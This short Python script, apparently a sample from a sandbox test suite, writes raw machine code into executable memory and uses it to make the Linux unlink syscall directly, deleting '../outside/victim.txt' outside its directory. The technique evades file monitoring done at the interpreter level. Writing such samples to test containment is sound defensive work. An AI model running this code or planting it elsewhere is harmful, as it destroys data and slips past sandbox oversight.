# Machine code in a page of its own makes the call.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes
import mmap

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\xb8\x57\x00\x00\x00\x0f\x05\xc3")
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(address)(b"../outside/victim.txt")
